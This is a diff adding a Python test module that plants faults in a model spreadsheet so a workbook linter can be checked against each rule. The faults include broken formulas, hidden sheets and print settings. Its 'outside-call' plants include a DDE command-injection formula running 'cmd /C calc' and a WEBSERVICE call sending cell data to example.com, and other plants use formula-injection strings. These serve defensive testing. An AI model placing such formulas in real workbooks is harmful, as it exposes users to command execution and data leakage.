@@ -1,0 +1,583 @@
+"""Faults planted in the clean model: for each rule at least two, each with the place where it must be found."""
+
+from __future__ import annotations
+
+import zipfile
+from collections.abc import Callable, Iterator
+from dataclasses import dataclass
+from pathlib import Path
+from typing import Any
+
+from openpyxl import Workbook
+from openpyxl.chart import LineChart, Reference
+from openpyxl.formatting.rule import FormulaRule, IconSetRule
+from openpyxl.styles import Alignment, Font, PatternFill
+from openpyxl.workbook.defined_name import DefinedName
+
+from lint_model import (
+    BLACK,
+    BLUE,
+    COUNT,
+    GREEN,
+    MONEY,
+    RED,
+    clean_model,
+    dress,
+    formulas,
+    header,
+    line,
+    mark,
+    put,
+    write,
+)
+from xlipo.workbook.cells import Formula
+
+Place = str
+"""As the lint prints it: "Model!C8", "Model" for a sheet, "file"."""
+
+
+@dataclass(frozen=True)
+class Plant:
+    """A fault: what makes it, in the workbook or in a part of the written file, and where it must be found."""
+
+    rule: str
+    places: tuple[Place, ...]
+    sow: Callable[[Workbook], object]
+    swap: tuple[str, str, str] | None = None
+    """Part, text and its replacement: what openpyxl cannot write."""
+
+    def file(self, path: Path) -> Path:
+        book = clean_model()
+        self.sow(book)
+        if self.rule != "line-without-label":
+            label_new_lines(book)
+        write(book, path)
+        return swapped(path, *self.swap) if self.swap else path
+
+
+def label_new_lines(book: Workbook) -> None:
+    """Give every line that a plant has added a label, so that the plant breaks only its own rule."""
+    for sheet in book:
+        for row in sheet.iter_rows(min_row=4):
+            figures = [cell for cell in row if cell.value is not None and not isinstance(cell.value, str)]
+            if figures and figures[0].column > 1 and row[0].value is None:
+                put(sheet, f"A{row[0].row}", f"Line {row[0].row}")
+
+
+def swapped(path: Path, part: str, old: str, new: str) -> Path:
+    """The file with a text replaced in one of its parts; the text must be there."""
+    with zipfile.ZipFile(path) as package:
+        parts = {name: package.read(name) for name in package.namelist()}
+    name = next(name for name in parts if name.endswith(part))
+    held = parts[name].decode()
+    assert old in held, f"{part} does not hold {old}"
+    parts[name] = held.replace(old, new, 1).encode()
+    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as package:
+        for each, data in parts.items():
+            package.writestr(each, data)
+    return path
+
+
+PLANTS: list[Plant] = []
+LONG_LABEL = "Cost of sales with all that belongs to it, and more"
+LONG_CHINESE = "员工人数（含外包、实习与兼职人员，按期末口径统计）"
+
+
+def plant(rule: str, *places: Place, swap: tuple[str, str, str] | None = None) -> Callable[[Any], Any]:
+    def enter(sow: Callable[[Workbook], object]) -> Callable[[Workbook], object]:
+        PLANTS.append(Plant(rule, places, sow, swap))
+        return sow
+
+    return enter
+
+
+def sow(rule: str, places: str, by: Callable[[Workbook], object], swap: tuple[str, str, str] | None = None) -> None:
+    """Plant a fault that is found at these places, with spaces between them."""
+    PLANTS.append(Plant(rule, tuple(places.split()), by, swap))
+
+
+def cell(rule: str, place: str, value: Any, colour: str = BLACK, shown: str = MONEY, at: str | None = None) -> None:
+    """Plant a value in one cell; it is found there, or where ``at`` says."""
+    sheet, address = place.split("!")
+    sow(rule, at or place, lambda book: put(book[sheet], address, value, colour, shown))
+
+
+def new_line(rule: str, label: str, pattern: str, place: str, colour: str = BLACK, unit: str = "USD m") -> None:
+    """Plant a line of five equal formulas in row 16 of the model."""
+    sow(rule, place, lambda book: line(book["Model"], 16, label, unit, formulas(pattern, [1.0] * 5), colour))
+
+
+# ---- formulas ------------------------------------------------------------------------------------------------------
+
+cell("inconsistent-formula", "Model!E12", Formula("=D12+E8+E7", 1.0))
+cell("inconsistent-formula", "Model!F13", 0.6, BLUE)
+cell("inconsistent-formula", "Model!G14", Formula("=G8*(1+G9)", 1.0))
+
+
+@plant("inconsistent-formula", "Model!H9")
+def _column_of_a_table(book: Workbook) -> None:
+    sheet = book["Model"]
+    sheet.tables["Model"].ref = "A5:H9"
+    put(sheet, "H5", "Latest").fill = PatternFill("solid", fgColor="FFFFFF")
+    for row in (6, 7, 8):
+        put(sheet, f"H{row}", Formula(f"=G{row}", 1.0), BLACK, MONEY)
+    put(sheet, "H9", 0.5, BLUE, MONEY)
+
+
+new_line("number-in-formula", "Taxed", "={c}8*0.75", "Model!C16:G16")
+new_line("number-in-formula", "Grown", "={c}8*(1+5%)", "Model!C16:G16")
+cell("number-in-formula", "Model!C16", Formula("=SUM(C8:E8)+1.5E3", 1.0), at="Model!C16")
+new_line("nested-if", "Tiers", "=IF({c}6>0,IF({c}7>0,IF({c}8>0,1,0),0),0)", "Model!C16:G16")
+cell("nested-if", "Model!D16", Formula("=IF(D6>0,1,IF(D7>0,1,SUM(IF(D8>0,1,0))))", 1.0))
+cell("long-formula", "Model!C16", Formula("=" + "+".join(f"C{row}" for row in (6, 7, 8) * 25), 1.0))
+cell("long-formula", "Model!G16", Formula("=SUM(" + ",".join(["Inputs!$C$6:$G$6"] * 12) + ")", 1.0), GREEN)
+cell("volatile-function", "Model!A16", Formula('="Printed "&TEXT(NOW(),"yyyy")', "Printed 2025"))
+cell("volatile-function", "Cover!B5", Formula("=TODAY()", 46000.0), BLACK, "yyyy-mm-dd")
+cell("volatile-function", "Model!C16", Formula("=C8*RAND()", 1.0))
+cell("untraceable-reference", "Model!C16", Formula("=SUM(OFFSET(C8,0,0,1,1))", 40.0))
+cell("untraceable-reference", "Model!D16", Formula('=INDIRECT("D"&ROW(D8))', 50.0))
+new_line("npv", "Worth", "=NPV($B$30,{c}8:$G$8)", "Model!C16:G16")
+cell("npv", "Model!C16", Formula("=C8+NPV(Inputs!C6,C8:G8)", 1.0), GREEN)
+cell("missing-value", "Model!C16", Formula("=C8+C7", None))
+cell("missing-value", "Model!D12", Formula("=C12+D8", None))
+cell("malformed-formula", "Model!C16", Formula("=SUM(C8:G8", None), at="Model!C16")
+cell("malformed-formula", "Model!D16", Formula('=D8&"', None))
+cell("missing-prefix", "Model!C16", Formula("=STDEV.S(C8:G8)", 1.0))
+cell("missing-prefix", "Model!D16", Formula("=IFNA(D8,0)", 1.0))
+cell("newer-function", "Model!C16", Formula("=_xlfn.XLOOKUP(C5,C5:G5,C8:G8)", 1.0))
+cell("newer-function", "Model!D16", Formula('=_xlfn.TEXTJOIN(", ",TRUE,C5:G5)', "FY2020"))
+cell("newer-function", "Model!E16", Formula("=_xlfn.MAXIFS(C8:G8,C7:G7,E7)", 1.0))
+cell("unknown-function", "Model!C16", Formula("=SUMM(C8:G8)", 1.0))
+cell("unknown-function", "Model!D16", Formula("=BDP(D5)", 1.0))
+new_line("repeated-formula", "Gross profit again", "={c}6-{c}7", "Model!C16:G16")
+
+
+@plant("repeated-formula", "Checks!C7")
+def _again_on_another_sheet(book: Workbook) -> None:
+    put(book["Inputs"], "C12", Formula("=Model!G12-SUM(Model!$C$8:$G$8)", 1.0), GREEN, MONEY)
+    put(book["Checks"], "C7", Formula("=Model!G12-SUM(Model!C8:G8)", 1.0), GREEN, MONEY)
+
+
+# ---- references ----------------------------------------------------------------------------------------------------
+
+cell("circular-reference", "Model!C16", Formula("=SUM(C8:C16)", 0.0))
+
+
+@plant("circular-reference", "Model!C16:D16")
+def _round_a_corner(book: Workbook) -> None:
+    put(book["Model"], "C16", Formula("=D16", 0.0), BLACK, MONEY)
+    put(book["Model"], "D16", Formula("=D8+SUM(B16:C16)", 0.0), BLACK, MONEY)
+
+
+@plant("circular-reference", "Inputs!C12", "Model!C16")
+def _over_two_sheets_and_a_name(book: Workbook) -> None:
+    book.defined_names["rate"] = DefinedName("rate", attr_text="Inputs!$C$12")
+    put(book["Model"], "C16", Formula("=C8*rate", 0.0), BLACK, MONEY)
+    put(book["Inputs"], "C12", Formula("=Model!C16", 0.0), GREEN, MONEY)
+
+
+cell("external-link", "Model!C16", Formula("='[budget.xlsx]Plan'!C8", 1.0))
+cell("external-link", "Model!D16", Formula("=D8+[1]Plan!$D$8", 1.0))
+
+
+@plant("external-link", "file")
+def _name_of_another_file(book: Workbook) -> None:
+    book.defined_names["plan"] = DefinedName("plan", attr_text="[1]Plan!$A$1")
+
+
+cell("outside-call", "Model!C16", Formula("=cmd|'/C calc'!A0", 0.0))
+cell("outside-call", "Model!D16", Formula('=_xlfn.WEBSERVICE("https://example.com/"&A6)', "ok"))
+cell("lost-reference", "Model!C16", Formula("=C8+#REF!", 1.0))
+cell("lost-reference", "Model!D16", Formula("=Plan!D8", 1.0), GREEN)
+
+
+@plant("lost-reference", "file")
+def _lost_name(book: Workbook) -> None:
+    book.defined_names["gone"] = DefinedName("gone", attr_text="Inputs!#REF!")
+
+
+cell("error-value", "Model!C16", Formula("=C8/C17", "#DIV/0!"))
+cell("error-value", "Model!D16", "#N/A", BLUE)
+cell("reads-ahead", "Model!C11", Formula("=C8+C12", 1.0))
+
+
+@plant("reads-ahead", "Model!C16")
+def _to_the_right(book: Workbook) -> None:
+    put(book["Model"], "A16", "Share of the last")
+    put(book["Model"], "E16", Formula("=E8/G8", 1.0), BLACK, MONEY)
+    put(book["Model"], "C16", Formula("=C8*E16", 1.0), BLACK, MONEY)
+
+
+# ---- structure -----------------------------------------------------------------------------------------------------
+
+sow("merged-cells", "Cover!A12", lambda book: book["Cover"].merge_cells("A12:C12"))
+sow("merged-cells", "Model!C16", lambda book: book["Model"].merge_cells("C16:C18"))
+sow("hidden-sheet", "Inputs", lambda book: setattr(book["Inputs"], "sheet_state", "hidden"))
+sow("hidden-sheet", "Checks", lambda book: setattr(book["Checks"], "sheet_state", "veryHidden"))
+sow("hidden-row", "Inputs!A7", lambda book: setattr(book["Inputs"].row_dimensions[7], "hidden", True))
+sow("hidden-row", "Model!A12:A13", lambda book: book["Model"].row_dimensions.group(12, 13, hidden=True))
+sow("hidden-column", "Inputs!D1", lambda book: setattr(book["Inputs"].column_dimensions["D"], "hidden", True))
+sow("hidden-column", "Model!B1", lambda book: setattr(book["Model"].column_dimensions["B"], "hidden", True))
+
+
+def sheet_named(title: str) -> Callable[[Workbook], object]:
+    return lambda book: dress(book.create_sheet(title), "Notes")
+
+
+for title in ("Sheet1", "Tabelle2", "工作表1"):
+    sow("default-sheet-name", title, sheet_named(title))
+sow("sheet-title", "Inputs!A1", lambda book: put(book["Inputs"], "A1", None))
+sow("sheet-title", "Model!A1", lambda book: put(book["Model"], "A1", True))
+
+# ---- tables --------------------------------------------------------------------------------------------------------
+
+
+@plant("unmarked-table", "Inputs!A12")
+def _a_block_with_a_header(book: Workbook) -> None:
+    header(book["Inputs"], 12)
+    for row, label in ((13, "Tax"), (14, "Interest"), (15, "Rent")):
+        line(book["Inputs"], row, label, "USD m", REVENUE_LIKE, BLUE)
+
+
+REVENUE_LIKE = (1.0, 2.0, 3.0, 4.0, 5.0)
+sow("unmarked-table", "Inputs!A5", lambda book: book["Inputs"].tables.pop("Inputs"))
+sow("unmarked-table", "Model!A5", lambda book: book["Model"].tables.pop("Model"))
+TABLE = "tables/table1.xml"
+sow("table-header", "Inputs!A5", lambda book: None, (TABLE, 'headerRowCount="1"', 'headerRowCount="0"'))
+sow("table-header", "Inputs!E5", lambda book: None, (TABLE, 'name="FY2022"', 'name="FY2032"'))
+sow("column-name", "Inputs!D5:E5", lambda book: put(book["Inputs"], "E5", "FY2021", "FFFFFF"))
+sow("column-name", "Inputs!A5", lambda book: put(book["Inputs"], "A5", "Column1", "FFFFFF"))
+
+
+def gap_in(row: int, area: str) -> Callable[[Workbook], object]:
+    def sow(book: Workbook) -> None:
+        book["Inputs"].tables["Inputs"].ref = area
+        if row < 9:
+            line(book["Inputs"], 9, "Patents", "number", (5.0,) * 5, BLUE, COUNT)
+            for column in "ABCDEFG":
+                book["Inputs"][f"{column}{row}"].value = None
+
+    return sow
+
+
+sow("blank-row-in-table", "Inputs!A9", gap_in(9, "A5:G9"))
+sow("blank-row-in-table", "Inputs!A9:A10", gap_in(9, "A5:G10"))
+
+
+def words_among_figures(*rows: int) -> Callable[[Workbook], object]:
+    def sow(book: Workbook) -> None:
+        sheet = book["Inputs"]
+        put(sheet, "A12", "Person")
+        put(sheet, "B12", "Hours")
+        for row in range(13, 43):
+            put(sheet, f"A{row}", f"Person {row}")
+            put(sheet, f"B{row}", "not counted" if row in rows else float(row), BLUE, COUNT)
+        mark(sheet, "Hours", "A12:B42")
+
+    return sow
+
+
+sow("mixed-column", "Inputs!B20", words_among_figures(20))
+sow("mixed-column", "Inputs!B14 Inputs!B30", words_among_figures(14, 30))
+
+# ---- lines and checks ----------------------------------------------------------------------------------------------
+
+sow("line-without-label", "Model!C16", lambda book: line(book["Model"], 16, "", "", formulas("={c}8*{c}9", [1.0] * 5)))
+cell("line-without-label", "Inputs!D12", 0.25, BLUE, "0.0%")
+sow("line-without-label", "Inputs!C7", lambda book: unlabelled(book["Inputs"], 7))
+
+
+def unlabelled(sheet: Any, row: int) -> None:
+    sheet[f"A{row}"].value = sheet[f"B{row}"].value = None
+
+
+sow("duplicate-label", "Inputs!A7", lambda book: line(book["Inputs"], 7, "Revenue", "USD m", ()))
+sow("duplicate-label", "Model!A13", lambda book: line(book["Model"], 13, "profit to date", "USD m", ()))
+
+
+def without_unit(sheet: str, row: int) -> Callable[[Workbook], object]:
+    def sow(book: Workbook) -> None:
+        put(book[sheet], "A2", "As told by the company")
+        put(book[sheet], "A16", "Backlog")
+        for column, value in zip("CDE", (1.0, 2.0, 3.0), strict=True):
+            put(book[sheet], f"{column}{row}", value, BLUE, COUNT)
+
+    return sow
+
+
+sow("line-without-unit", "Inputs!C16", without_unit("Inputs", 16))
+sow("line-without-unit", "Inputs!B16", lambda book: one_input(book["Inputs"]))
+sow("line-without-unit", "Inputs!C7", lambda book: no_unit_in_table(book["Inputs"]))
+
+
+def one_input(sheet: Any) -> None:
+    put(sheet, "A2", "As told by the company")
+    put(sheet, "A16", "Backlog")
+    put(sheet, "B16", 12.0, BLUE, COUNT)
+
+
+def no_unit_in_table(sheet: Any) -> None:
+    put(sheet, "A2", "As told by the company")
+    put(sheet, "A7", "Backlog")
+    sheet["B7"].value = None
+    for column in "CDEFG":
+        sheet[f"{column}7"].number_format = COUNT
+
+
+sow("inputs-without-source", "Inputs!C6:C8", lambda book: put(book["Inputs"], "A3", "Audited"))
+sow("inputs-without-source", "Model!C16", lambda book: line(book["Model"], 16, "Price", "USD", (1.0, 2.0), BLUE))
+sow(
+    "master-check",
+    "Checks!C7",
+    lambda book: put(book["Cover"], "B4", Formula('=IF(Checks!C6=0,"all pass","a check fails")', "all pass"), "2E7D4F"),
+)
+
+
+@plant("master-check", "Checks!C6:C7")
+def _no_master_at_all(book: Workbook) -> None:
+    put(book["Cover"], "A4", None)
+    put(book["Cover"], "B4", None)
+
+
+@plant("master-check", "Checks!C8")
+def _a_check_left_out(book: Workbook) -> None:
+    put(book["Checks"], "A8", "Check: staff is not negative")
+    put(book["Checks"], "C8", Formula("=MIN(0,MIN(Inputs!C8:G8))", 0.0), GREEN, MONEY)
+
+
+# ---- colours -------------------------------------------------------------------------------------------------------
+
+sow("input-colour", "Inputs!D7", lambda book: put(book["Inputs"], "D7", 70.0, BLACK, MONEY))
+sow("input-colour", "Inputs!C8:E8", lambda book: line(book["Inputs"], 8, "Staff", "heads", STAFF_3))
+sow("input-colour", "Inputs!D13", lambda book: among_blue(book["Inputs"]))
+
+
+def among_blue(sheet: Any) -> None:
+    """Inputs that nothing reads yet: the colour of the others tells."""
+    line(sheet, 13, "Tax", "USD m", (1.0, 2.0, 3.0), BLUE)
+    sheet["D13"].font = Font("Arial", 10, color=BLACK)
+
+
+STAFF_3 = (200.0, 220.0, 260.0)
+cell("formula-colour", "Model!C8", Formula("=C6-C7", 40.0), BLUE)
+cell("formula-colour", "Model!D12", Formula("=C12+D8", 90.0), GREEN)
+cell("formula-colour", "Model!E12", Formula("=D12+E8", 160.0), RED)
+cell("link-colour", "Model!C6", Formula("=Inputs!C6", 100.0), BLACK)
+cell("link-colour", "Model!D13", Formula("=D6/Inputs!D8", 0.5), BLACK)
+ASKED = '=IPO_METRIC("MiniMax","revenue",{}5)'
+cell("function-colour", "Model!C16", Formula(ASKED.format("C"), 1.0), BLACK)
+cell("function-colour", "Model!D16", Formula(ASKED.format("D"), 1.0), GREEN)
+sow("colour-legend", "Cover", lambda book: put(book["Cover"], "A7", "Typed", BLUE))
+sow("colour-legend", "Cover", lambda book: put(book["Cover"], "A7", "Input", BLACK))
+
+
+@plant("colour-alone", "Model!B17:B18")
+def _signals(book: Workbook) -> None:
+    book["Model"]["B17"].fill = PatternFill("solid", fgColor="FF0000")
+    book["Model"]["B18"].fill = PatternFill("solid", fgColor="00B050")
+
+
+@plant("colour-alone", "Model!C9")
+def _traffic_lights(book: Workbook) -> None:
+    lights = IconSetRule("3TrafficLights1", "num", [0, 1, 2], showValue=False)
+    book["Model"].conditional_formatting.add("C9:G9", lights)
+
+
+sow("contrast", "Cover!A12", lambda book: put(book["Cover"], "A12", "Quiet words", "AAAAAA"))
+
+
+@plant("contrast", "Inputs!A3")
+def _on_a_ground(book: Workbook) -> None:
+    book["Inputs"]["A3"].fill = PatternFill("solid", fgColor="FF5050")
+    book["Inputs"]["A3"].font = Font("Arial", 10, color="FFFFFF")
+
+
+@plant("contrast", "Model!C12")
+def _when_it_is_large(book: Workbook) -> None:
+    warm = FormulaRule(["C12>0"], font=Font(color="FFFF00"), fill=PatternFill(bgColor="FFFFFF", fill_type="solid"))
+    book["Model"].conditional_formatting.add("C12:G12", warm)
+
+
+# ---- numbers -------------------------------------------------------------------------------------------------------
+
+cell("number-format", "Inputs!C7", 1234567.0, BLUE, "General")
+cell("number-format", "Inputs!D7", 70.123456789, BLUE, "General")
+cell("negative-format", "Inputs!C7", -60.0, BLUE, "#,##0.0")
+cell("negative-format", "Inputs!D7", 70.0, BLUE, "#,##0.0;-#,##0.0")
+cell("negative-format", "Inputs!E7", -0.5, BLUE, "0.0%")
+
+
+@plant("year-as-number", "Inputs!C13:G13")
+def _years_over_figures(book: Workbook) -> None:
+    put(book["Inputs"], "A13", "Price list")
+    for column, year in zip("CDEFG", range(2020, 2025), strict=True):
+        put(book["Inputs"], f"{column}13", float(year))
+    line(book["Inputs"], 14, "Price", "USD", REVENUE_LIKE, BLUE)
+
+
+@plant("year-as-number", "Inputs!A13:A15")
+def _years_in_a_column(book: Workbook) -> None:
+    put(book["Inputs"], "A12", "Year")
+    put(book["Inputs"], "B12", "Price, USD")
+    for row in (13, 14, 15):
+        put(book["Inputs"], f"A{row}", 2010.0 + row)
+        put(book["Inputs"], f"B{row}", 1.5 * row, BLUE, MONEY)
+    mark(book["Inputs"], "Prices", "A12:B15")
+
+
+cell("number-as-text", "Inputs!D7", "70.5", BLUE)
+cell("number-as-text", "Inputs!E8", "1,260", BLUE)
+cell("number-as-text", "Inputs!F7", "(95)", BLUE)
+
+# ---- accessibility -------------------------------------------------------------------------------------------------
+
+sow("alt-text", "Model!A20", lambda book: setattr(book["Model"]._charts[0], "alt_text", ""))
+sow("alt-text", "Model!A20", lambda book: setattr(book["Model"]._charts[0], "alt_text", "long " * 31))
+
+
+@plant("alt-text", "Inputs!C12")
+def _another_chart(book: Workbook) -> None:
+    chart = LineChart()
+    chart.add_data(Reference(book["Inputs"], min_col=3, max_col=7, min_row=6), from_rows=True)
+    book["Inputs"].add_chart(chart, "C12")
+
+
+sow("document-title", "file", lambda book: setattr(book.properties, "title", None))
+sow("document-title", "file", lambda book: setattr(book.properties, "title", "  "))
+sow("document-language", "file", lambda book: setattr(book.properties, "language", None))
+sow("document-language", "file", lambda book: setattr(book.properties, "language", ""))
+
+# ---- print and view ------------------------------------------------------------------------------------------------
+
+
+def on(*titles: str) -> Callable[[Callable[[Any], object]], Callable[[Workbook], object]]:
+    """Do the same to some sheets."""
+    return lambda change: lambda book: [change(book[title]) for title in titles]
+
+
+def lengthen(sheet: Any) -> None:
+    put(sheet, "A60", "The end.")
+
+
+def unfrozen(sheet: Any) -> None:
+    sheet.freeze_panes = None
+
+
+def unrepeated(sheet: Any) -> None:
+    sheet._print_rows = None
+
+
+def loosen(sheet: Any) -> None:
+    lengthen(sheet)
+    sheet.freeze_panes = None
+
+
+def untitled(sheet: Any) -> None:
+    lengthen(sheet)
+    sheet._print_rows = None  # openpyxl has no way to take them back
+
+
+def paged(wide: int, high: int) -> Callable[[Any], None]:
+    def change(sheet: Any) -> None:
+        sheet.page_setup.fitToWidth, sheet.page_setup.fitToHeight = wide, high
+
+    return change
+
+
+def footed(left: str, right: str) -> Callable[[Any], None]:
+    def change(sheet: Any) -> None:
+        sheet.oddFooter.left.text, sheet.oddFooter.right.text = left, right
+
+    return change
+
+
+def cursor(place: str) -> Callable[[Any], None]:
+    def change(sheet: Any) -> None:
+        for selection in sheet.sheet_view.selection:
+            selection.activeCell = selection.sqref = place
+
+    return change
+
+
+def upright(sheet: Any) -> None:
+    sheet.page_setup.orientation = "portrait"
+
+
+def undecided(sheet: Any) -> None:
+    sheet.page_setup.orientation = None
+
+
+def unfitted(sheet: Any) -> None:
+    sheet.sheet_properties.pageSetUpPr.fitToPage = False
+
+
+sow("print-landscape", "Inputs", on("Inputs")(upright))
+sow("print-landscape", "Model Checks", on("Model", "Checks")(undecided))
+sow("print-width", "Inputs", on("Inputs")(paged(2, 0)))
+sow("print-width", "Model", on("Model")(unfitted))
+sow("print-titles", "Inputs", on("Inputs")(untitled))
+sow("print-titles", "Checks", on("Checks")(untitled))
+sow("footer-date", "Inputs", on("Inputs")(footed("Inputs", "&P / &N")))
+sow("footer-date", "Model", on("Model")(footed("&D", "&P / &N")))
+sow("footer-page", "Inputs", on("Inputs")(footed("As of 2025-12-31", "Inputs")))
+sow("footer-page", "Checks", on("Checks")(footed("As of 2025-12-31", "&N")))
+sow("freeze-panes", "Inputs", on("Inputs")(loosen))
+sow("freeze-panes", "Model", on("Model")(unfrozen))
+sow("print-titles", "Model", on("Model")(unrepeated))
+sow("freeze-panes", "Checks", on("Checks")(loosen))
+sow("cursor-at-a1", "Inputs", on("Inputs")(cursor("D9")))
+sow("cursor-at-a1", "file", lambda book: setattr(book, "active", 2))
+sow("cursor-at-a1", "Checks", lambda book: setattr(book["Checks"].sheet_view.pane, "topLeftCell", "C40"))
+
+# ---- widths and text -----------------------------------------------------------------------------------------------
+
+cell("number-cut", "Inputs!C7", 123456789012.0, BLUE, "#,##0.00;(#,##0.00)")
+sow("number-cut", "Inputs!D6:D8", lambda book: narrow(book["Inputs"]))
+
+
+def narrow(sheet: Any) -> None:
+    """Only the figures no longer fit: the header is wrapped."""
+    sheet.column_dimensions["D"].width = 2
+    sheet["D5"].alignment = Alignment(wrap_text=True)
+
+
+sow("text-cut", "Inputs!A7", lambda book: put(book["Inputs"], "A7", LONG_LABEL))
+sow("text-cut", "Inputs!A8", lambda book: put(book["Inputs"], "A8", LONG_CHINESE))
+
+
+@plant("text-cut", "Cover!A12")
+def _in_a_low_row(book: Workbook) -> None:
+    put(book["Cover"], "A12", "A note of several lines that is wrapped in a row with room for one only, and so is cut.")
+    book["Cover"]["A12"].alignment = Alignment(wrap_text=True)
+    book["Cover"].row_dimensions[12].height = 13
+
+
+QUOTED = ("styles.xml", ' quotePrefix="1"', "")
+
+
+def dangerous(text: str) -> Callable[[Workbook], object]:
+    def sow(book: Workbook) -> None:
+        from xlipo.workbook.cells import safe_text
+
+        put(book["Cover"], "A12", safe_text(text))
+
+    return sow
+
+
+for text in ('=HYPERLINK("http://x")', "+1 212 555", "-profit", "@SUM(A1)", "\tx"):
+    sow("text-like-formula", "Cover!A12", dangerous(text), QUOTED)
+
+
+def by_rule() -> dict[str, list[Plant]]:
+    """The plants of each rule."""
+    found: dict[str, list[Plant]] = {}
+    for each in PLANTS:
+        found.setdefault(each.rule, []).append(each)
+    return found
+
+
+def named() -> Iterator[tuple[str, Plant]]:
+    """Every plant with a name for the test's report."""
+    for rule, plants in by_rule().items():
+        for number, each in enumerate(plants, 1):
+            yield f"{rule}-{number}", each
